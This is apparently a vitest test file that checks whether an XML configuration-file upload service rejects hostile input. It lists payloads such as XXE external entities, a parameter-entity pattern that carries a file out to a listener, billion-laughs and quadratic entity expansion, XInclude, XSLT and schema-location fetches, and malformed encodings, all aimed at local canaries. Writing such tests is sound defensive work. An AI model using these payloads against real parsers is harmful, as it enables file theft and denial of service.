import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { configFileMapping } from '@vehicle/contract/fleet/config-file/contract';
import { parseRefusal } from '@vehicle/contract/fleet/config-file/parse-refusal';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type TestApp, testApp } from '../../../testing/app.ts';
import { anAdministrator, type TestMember } from '../../../testing/builders.ts';
import { made, smallFile, upload } from '../../../testing/config-file.ts';

let server: TestApp;
let admin: TestMember;
/** Hears whoever follows an address of the files. */
let listener: Server;
let connections = 0;
let directory: string;
let canaryUrl = '';
let listenerUrl = '';
const canary = `CANARY-${randomBytes(8).toString('hex')}`;

beforeAll(async () => {
  server = await testApp();
  admin = await anAdministrator(server.database.kysely);
  listener = createServer((socket) => {
    connections += 1;
    socket.destroy();
  }).listen(0, '127.0.0.1');
  await once(listener, 'listening');
  const address = listener.address();
  listenerUrl = `http://127.0.0.1:${typeof address === 'object' ? address?.port : 0}/x`;
  directory = await mkdtemp(join(tmpdir(), 'vehicle-xml-'));
  await writeFile(join(directory, 'canary.txt'), canary);
  canaryUrl = pathToFileURL(join(directory, 'canary.txt')).href;
});
afterAll(async () => {
  listener.close();
  await rm(directory, { recursive: true });
  await server.close();
});

const kcd = 'http://kayak.2codeornot2code.org/1.0';
const laughs = Array.from({ length: 10 }, (_, at) => {
  const before = at === 0 ? 'lol' : `&l${at - 1};`;
  return `<!ENTITY l${at} "${before.repeat(10)}">`;
}).join('');
const small = smallFile().xml;
const inside = (xml: string) => small.replace('</Bus>', `${xml}</Bus>`);

/** By what they try: the file, and the reason that it is refused for. */
const refused: ReadonlyArray<[string, () => string | Buffer, string]> = [
  [
    'external entity, file',
    () => `<!DOCTYPE x [<!ENTITY a SYSTEM "${canaryUrl}">]><NetworkDefinition>&a;</NetworkDefinition>`,
    'xml-doctype',
  ],
  [
    'external entity, address',
    () => `<!DOCTYPE x [<!ENTITY a SYSTEM "${listenerUrl}">]><NetworkDefinition>&a;</NetworkDefinition>`,
    'xml-doctype',
  ],
  [
    'parameter entity',
    () => `<!DOCTYPE x [<!ENTITY % p SYSTEM "${listenerUrl}"> %p;]><NetworkDefinition/>`,
    'xml-doctype',
  ],
  [
    'parameter entity that carries a file out',
    () =>
      `<!DOCTYPE x [<!ENTITY % f SYSTEM "${canaryUrl}"><!ENTITY % e "<!ENTITY s SYSTEM '${listenerUrl}?%f;'>"> %e;]><x>&s;</x>`,
    'xml-doctype',
  ],
  [
    'external DTD',
    () => `<!DOCTYPE NetworkDefinition SYSTEM "${listenerUrl}"><NetworkDefinition/>`,
    'xml-doctype',
  ],
  [
    'public DTD',
    () => `<!DOCTYPE NetworkDefinition PUBLIC "-//X//Y" "${listenerUrl}"><NetworkDefinition/>`,
    'xml-doctype',
  ],
  ['DTD behind a comment', () => `<!-- a --><!DOCTYPE x [<!ENTITY a "b">]><x/>`, 'xml-doctype'],
  [
    'billion laughs',
    () => `<!DOCTYPE x [${laughs}]><NetworkDefinition>&l9;</NetworkDefinition>`,
    'xml-doctype',
  ],
  [
    'quadratic blow-up',
    () => `<!DOCTYPE x [<!ENTITY a "${'a'.repeat(50_000)}">]><x>${'&a;'.repeat(50_000)}</x>`,
    'xml-doctype',
  ],
  ['entity that is not declared', () => inside('<Message id="1" name="&a;"/>'), 'xml-malformed'],
  [
    'XInclude as root',
    () => `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${canaryUrl}" parse="text"/>`,
    'bad-root',
  ],
  [
    'style sheet as root',
    () =>
      `<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:include href="${listenerUrl}"/></xsl:stylesheet>`,
    'bad-root',
  ],
  ['200,000 deep', () => `<NetworkDefinition xmlns="${kcd}">${'<a>'.repeat(200_000)}`, 'too-deep'],
  [
    '200,000 deep, of another namespace',
    () => `<NetworkDefinition xmlns="${kcd}">${'<a xmlns="">'.repeat(60_000)}`,
    'too-deep',
  ],
  [
    '60,000 attributes',
    () =>
      `<NetworkDefinition xmlns="${kcd}"><Bus ${Array.from({ length: 60_000 }, (_, at) => `a${at}="1"`).join(' ')}/></NetworkDefinition>`,
    'too-many-attributes',
  ],
  [
    '200,000 elements',
    () => `<NetworkDefinition xmlns="${kcd}">${'<a/>'.repeat(200_000)}</NetworkDefinition>`,
    'too-many-elements',
  ],
  ['long attribute', () => inside(`<Message id="1" name="${'n'.repeat(500_000)}"/>`), 'attribute-too-long'],
  ['repeated attribute', () => inside('<Message id="1" id="2" name="m"/>'), 'xml-malformed'],
  ['truncated', () => small.slice(0, small.length / 2), 'xml-malformed'],
  ['two roots', () => `${small}<x/>`, 'xml-malformed'],
  ['text behind the end', () => `${small}text`, 'xml-malformed'],
  ['NUL', () => small.replace('name="small"', 'name="sm\0all"'), 'xml-malformed'],
  ['control character by number', () => small.replace('name="small"', 'name="&#1;"'), 'xml-malformed'],
  [
    'bad UTF-8',
    () =>
      Buffer.concat([
        Buffer.from(small.slice(0, 60)),
        Buffer.from([0xff, 0xc0, 0x80]),
        Buffer.from(small.slice(60)),
      ]),
    'xml-malformed',
  ],
  [
    'overlong UTF-8',
    () => Buffer.concat([Buffer.from([0xc0, 0xbc]), Buffer.from(small.slice(1))]),
    'xml-malformed',
  ],
  ['declared UTF-7', () => small.replace('UTF-8', 'UTF-7'), 'bad-encoding'],
  [
    'half a GBK character',
    () => Buffer.concat([Buffer.from(small.replace('UTF-8', 'GBK'), 'latin1'), Buffer.from([0x81])]),
    'bad-encoding',
  ],
  [
    'half a UTF-16 unit',
    () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(small, 'utf16le'), Buffer.from([0x3c])]),
    'bad-encoding',
  ],
  [
    'DTD in UTF-16',
    () => Buffer.from(`\uFEFF<!DOCTYPE x [<!ENTITY a SYSTEM "${canaryUrl}">]><x>&a;</x>`, 'utf16le'),
    'xml-doctype',
  ],
  ['wrong root', () => '<html><body/></html>', 'bad-root'],
  ['root of another namespace', () => '<NetworkDefinition xmlns="urn:other"/>', 'bad-root'],
  ['svg', () => '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', 'bad-root'],
  ['zip', () => Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), randomBytes(200)]), 'xml-malformed'],
];

async function fileCount(): Promise<number> {
  const { rows } = await sql<{ count: number }>`select count(*) as count from file`.execute(
    server.database.kysely,
  );
  return rows[0]?.count ?? 0;
}

describe('hostile XML', () => {
  it.each(refused)('E65 %s is refused with its place and reason, and not kept', async (_, make, reason) => {
    const before = await fileCount();
    const answer = await upload(server, admin, [{ content: make() }]);
    expect(answer).toMatchObject({ status: 400, object: { code: 'FILE_UNREADABLE' } });
    expect(answer.message).toMatch(/^文件第 \d+ 行第 \d+ 列有误：/);
    const [said = ''] = parseRefusal(reason, { limit: '@' }, 'zh').split('@');
    expect(answer.message).toContain(said);
    expect(answer.message).not.toContain(canary);
    expect(await fileCount()).toBe(before);
  });

  it.each([
    ['depth', () => `<NetworkDefinition>${'<a>'.repeat(200_000)}`, 20 + 3 * 40],
    ['number of attributes', () => `<NetworkDefinition><Bus ${'b="1" '.repeat(100_000)}`, 1000],
  ])('E65 reading ends where the %s is too much', async (_, make, column) => {
    const { message } = await upload(server, admin, [{ content: make() }]);
    const place = /第 1 行第 (\d+) 列/.exec(message)?.[1];
    expect(Number(place)).toBeLessThan(column);
  });

  it.each([
    [
      'XInclude',
      () =>
        inside(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${canaryUrl}" parse="text"/>`),
    ],
    [
      'XSLT instruction',
      () => small.replace('?>', `?><?xml-stylesheet type="text/xsl" href="${listenerUrl}"?>`),
    ],
    [
      'place of a schema',
      () =>
        small.replace(
          '<NetworkDefinition',
          `<NetworkDefinition xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="${kcd} ${listenerUrl}"`,
        ),
    ],
  ])('E65 an %s in a good file is not followed', async (_, make) => {
    const { id } = await made(server, admin, make());
    const { mapping } = await server.ask(configFileMapping, { params: { id }, token: admin.token });
    expect(JSON.stringify(mapping)).not.toContain(canary);
    expect(mapping).toHaveLength(2);
  });

  it('E65 nobody has called the listener, in all of this', () => {
    expect(connections).toBe(0);
  });
});
